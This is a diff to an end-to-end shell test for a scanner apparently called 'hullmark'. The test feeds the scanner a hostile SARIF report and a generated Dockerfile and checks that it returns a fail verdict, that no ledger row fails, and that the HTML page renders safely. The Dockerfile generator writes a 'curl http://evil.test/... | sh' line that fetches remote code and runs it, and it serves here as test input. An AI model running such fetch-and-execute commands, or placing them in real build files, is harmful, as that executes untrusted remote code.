@@ -141,18 +141,21 @@ for i, attack in enumerate(attacks):
     location = {"physicalLocation": {"artifactLocation": {"uri": "dir%d/%s" % (i, attack.replace("/", "_"))},
                                      "region": {"startLine": 1, "snippet": {"text": attack}}},
                 "logicalLocations": [{"name": attack, "fullyQualifiedName": attack}]}
-    runs.append({"tool": {"driver": {"name": attack, "version": attack, "rules": [rule]}},
+    runs.append({"tool": {"driver": {"name": "tool%d %s" % (i, attack), "version": attack, "rules": [rule]}},
                  "results": [{"ruleId": attack, "level": "error", "message": {"text": attack}, "locations": [location],
                               "partialFingerprints": {attack: attack}}]})
 json.dump({"version": "2.1.0", "runs": runs}, open("hostile.sarif", "w"))
 with open("Dockerfile", "w") as file:
     file.write("FROM a AS x\n")
     for attack in attacks:
+        if "{{" in attack:
+            continue  # a template, which is not judged
         line = attack.replace("\n", " ")
         file.write('ENV A="%s"\nRUN echo %s; curl http://evil.test/%s | sh\nFROM %s AS s%d\n' % (
             line.replace('"', "'"), line, "x", line.replace(" ", "") or "b", len(line)))
 EOF
-    expect_exit 1 hullmark scan --without all -q --import hostile.sarif -o html=page.html .
+    expect_exit 1 hullmark scan --without all -q --import hostile.sarif -o html=page.html -o json=out.json .
+    expect_json out.json 'doc["verdict"] == "fail" and all(row["state"] != "failed" for row in doc["ledger"])'
     node-of-tests "$ROOT/tests/e2e/html_page.js" hostile page.html
 }
 check "a hostile report does nothing" hostile
